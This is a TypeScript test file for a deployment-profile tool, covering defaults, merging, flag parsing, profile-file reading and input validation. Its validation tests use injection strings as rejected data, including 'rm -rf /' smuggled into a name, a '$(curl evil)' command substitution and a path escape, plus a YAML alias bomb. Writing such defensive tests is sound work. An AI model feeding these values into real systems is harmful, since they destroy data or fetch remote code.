import { describe, expect, it } from 'vitest';
import { parseProfileText } from '../../src/profile/file.js';
import { parseEgress, profileInputFromFlags } from '../../src/profile/flags.js';
import { ProfileError, mergeInputs, nameFromDirectory, validateProfile, withDefaults } from '../../src/profile/resolve.js';
import { volumeNameFor } from '../../src/profile/schema.js';
import { profileFrom } from '../helpers/profiles.js';

function problemsOf(run: () => unknown): string[] {
  try {
    run();
  } catch (error) {
    if (error instanceof ProfileError) return [...error.problems];
    throw error;
  }
  throw new Error('expected a ProfileError');
}

describe('defaults', () => {
  it('fills every field from the language and the directory name', () => {
    const profile = profileFrom({ language: 'go' }, '/work/My Service_2');
    expect(profile).toMatchObject({
      name: 'my-service-2',
      namespace: 'my-service-2',
      image: 'ghcr.io/example/my-service-2',
      port: 8080,
      buildTool: 'go',
      entrypoint: '.',
      writablePaths: ['/tmp'],
      ci: { system: 'github', sign: 'keyless', severity: ['CRITICAL', 'HIGH'], ignoreUnfixed: true },
      admission: 'kyverno',
    });
  });

  it('derives signing and admission from the CI system', () => {
    const profile = profileFrom({ ci: { system: 'none' } });
    expect(profile.ci.sign).toBe('none');
    expect(profile.admission).toBe('none');
  });

  it('takes the source repository from a GHCR or GitLab image', () => {
    expect(profileFrom({ image: 'ghcr.io/acme/web' }).repository).toBe('acme/web');
    expect(profileFrom({ image: 'registry.gitlab.com/acme/shop/orders', ci: { system: 'gitlab' } }).repository).toBe('acme/shop/orders');
  });

  it('records the placeholder image as an assumption', () => {
    const { assumptions } = withDefaults({}, 'demo');
    expect(assumptions).toEqual([expect.objectContaining({ field: 'image', value: 'ghcr.io/example/demo' })]);
  });

  it('makes a DNS label of any directory name', () => {
    expect(nameFromDirectory('/x/123 Über App!')).toBe('ber-app');
    expect(nameFromDirectory('/')).toBe('app');
  });

  it('sorts and de-duplicates lists so equal answers give equal profiles', () => {
    const profile = profileFrom({ ci: { severity: ['HIGH', 'CRITICAL', 'HIGH'] } });
    expect(profile.ci.severity).toEqual(['CRITICAL', 'HIGH']);
  });
});

describe('merging sources', () => {
  it('lets later sources win field by field and drops undefined values', () => {
    const merged = mergeInputs(
      { name: 'a', resources: { requests: { cpu: '1' } } },
      { resources: { requests: { memory: '1Gi', cpu: undefined } } },
    );
    expect(merged).toEqual({ name: 'a', resources: { requests: { cpu: '1', memory: '1Gi' } } });
  });

  it('replaces a label map whole', () => {
    const merged = mergeInputs({ ingress: { podLabels: { a: '1' } } }, { ingress: { podLabels: { b: '2' } } });
    expect(merged.ingress?.podLabels).toEqual({ b: '2' });
  });
});

describe('validation messages', () => {
  it('names the field, its flag, the value and what is allowed', () => {
    const problems = problemsOf(() => profileFrom({ port: 70000, language: 'cobol' as never }));
    expect(problems).toContain('port (--port): 70000 is not allowed: at most 65535');
    expect(problems).toContain('language (--language): "cobol" is not allowed: use one of node, python, go, java, rust');
  });

  it('reports a bad name once, not again for every field derived from it', () => {
    const problems = problemsOf(() => profileFrom({ name: 'Bad Name' }));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^name \(--name\): "Bad Name" is not allowed: .*DNS-1123/);
  });

  it.each([
    ['a newline', { image: 'ghcr.io/a/b\nc' }, 'image (--image)'],
    ['quotes', { name: 'web"; rm -rf /' }, 'name (--name)'],
    ['handlebars', { namespace: '{{constructor}}' }, 'namespace (--namespace)'],
    ['command substitution', { entrypoint: '$(curl evil).js' }, 'entrypoint (--entrypoint)'],
    ['a YAML key separator', { branch: 'main: x' }, 'branch (--branch)'],
    ['a path escape', { writablePaths: ['/tmp/../etc'] }, 'writablePaths.0 (--writable)'],
    ['a shell parent with spaces', { falco: { allowedShellParents: ['sh -c'] } }, 'falco.allowedShellParents.0 (--shell-parents)'],
    ['a label value with a colon', { ingress: { podLabels: { app: 'a: b' } } }, 'ingress.podLabels.app (--ingress-labels)'],
  ])('rejects %s', (_what, input, field) => {
    const problems = problemsOf(() => profileFrom(input as never));
    expect(problems.some((p) => p.startsWith(`${field}:`))).toBe(true);
  });

  it('checks answers against each other', () => {
    expect(problemsOf(() => profileFrom({ exposure: 'internal' }))).toEqual([
      'clients (--clients): [] is not allowed: internal exposure needs at least one client app allowed to connect',
    ]);
    expect(problemsOf(() => profileFrom({ ci: { system: 'none', sign: 'keyless' } }))[0]).toMatch(/keyless signing takes its identity/);
    expect(problemsOf(() => profileFrom({ ci: { sign: 'none' }, admission: 'kyverno' }))[0]).toMatch(/images must be signed/);
    expect(problemsOf(() => profileFrom({ ci: { sign: 'key' }, admission: 'sigstore' }))[0]).toMatch(/--public-key/);
    expect(problemsOf(() => profileFrom({ resources: { requests: { memory: '2Gi' }, limits: { memory: '1Gi' } } }))[0]).toMatch(
      /request 2Gi is above the limit 1Gi/,
    );
    expect(problemsOf(() => profileFrom({ language: 'python', buildTool: 'npm' }))[0]).toMatch(/Python builds with pip, poetry, uv/);
    expect(problemsOf(() => profileFrom({ writablePaths: ['/var/cache', '/var-cache'] }))[0]).toMatch(/repeats another writable path/);
  });

  it('rejects unknown fields in a profile', () => {
    const input = withDefaults({}, 'x').value as Record<string, unknown>;
    expect(problemsOf(() => validateProfile({ ...input, replica: 3 }))).toEqual(['profile: unknown field replica']);
  });
});

describe('flags', () => {
  it('parses every structured flag', () => {
    const input = profileInputFromFlags({
      port: '80',
      clients: ['web,payments/billing'],
      egress: ['postgres=10.0.0.0/16:6432', 'https', 'redis=data/cache'],
      writable: ['/tmp', '/var/cache'],
      'ingress-labels': 'app.kubernetes.io/name=traefik,tier=edge',
      severity: 'critical,high',
      sbom: false,
    });
    expect(input).toMatchObject({
      port: 80,
      clients: [{ app: 'web' }, { namespace: 'payments', app: 'billing' }],
      egress: [
        { service: 'postgres', port: 6432, to: { cidr: '10.0.0.0/16' } },
        { service: 'https', port: 443 },
        { service: 'redis', port: 6379, to: { namespace: 'data', app: 'cache' } },
      ],
      writablePaths: ['/tmp', '/var/cache'],
      ingress: { podLabels: { 'app.kubernetes.io/name': 'traefik', tier: 'edge' } },
      ci: { severity: ['CRITICAL', 'HIGH'], sbom: false },
    });
  });

  it('explains why an egress target cannot be a host name', () => {
    expect(() => parseEgress('postgres=db.internal')).toThrow(/NetworkPolicy matches addresses, not names/);
    expect(() => parseEgress('custom')).toThrow(/custom needs a destination and port/);
    expect(() => parseEgress('ftp')).toThrow(/unknown service "ftp"/);
    expect(parseEgress('custom=10.1.2.3:8443')).toEqual({ service: 'custom', port: 8443, to: { cidr: '10.1.2.3/32' } });
  });

  it('names every bad flag at once', () => {
    expect(problemsOf(() => profileInputFromFlags({ port: 'eighty', replicas: '-1', egress: ['ftp'] }))).toEqual([
      '--port: "eighty" is not allowed: must be a whole number',
      '--egress: "ftp" is not allowed: unknown service "ftp"; use postgres, mysql, redis, mongodb, https, custom',
      '--replicas: "-1" is not allowed: must be a whole number',
    ]);
  });
});

describe('profile files', () => {
  it('reads the saved form and the flat form', () => {
    expect(parseProfileText('version: 1\nprofile:\n  name: web\n  port: 8080\n', 'p.yaml')).toEqual({ name: 'web', port: 8080 });
    expect(parseProfileText('{"name": "web", "language": "go"}', 'p.json')).toEqual({ name: 'web', language: 'go' });
  });

  it('reports malformed YAML with the file and position, never a stack trace', () => {
    const problems = problemsOf(() => parseProfileText('name: web\n  port: [8080\n', 'bad.yaml'));
    expect(problems[0]).toMatch(/^bad\.yaml: .*line \d+, column \d+/);
  });

  it('rejects an unknown version and a non-mapping', () => {
    expect(problemsOf(() => parseProfileText('version: 7\n', 'p.yaml'))[0]).toMatch(/version 7 is not supported/);
    expect(problemsOf(() => parseProfileText('- a\n- b\n', 'p.yaml'))[0]).toMatch(/expected a mapping/);
  });

  it('bounds alias expansion', () => {
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdefgh'.split('').map((k, i) => `${k}: &${k} [${Array(10).fill(`*${'abcdefgh'[i]}`).join(', ')}]`)].join('\n');
    expect(() => parseProfileText(bomb, 'bomb.yaml')).toThrow();
  });
});

describe('volume names', () => {
  it('turns writable paths into DNS labels', () => {
    expect(volumeNameFor('/tmp')).toBe('tmp');
    expect(volumeNameFor('/var/cache/nginx')).toBe('var-cache-nginx');
    expect(volumeNameFor('/app/.cache')).toBe('app-cache');
    expect(volumeNameFor('/9data')).toBe('w-9data');
  });
});
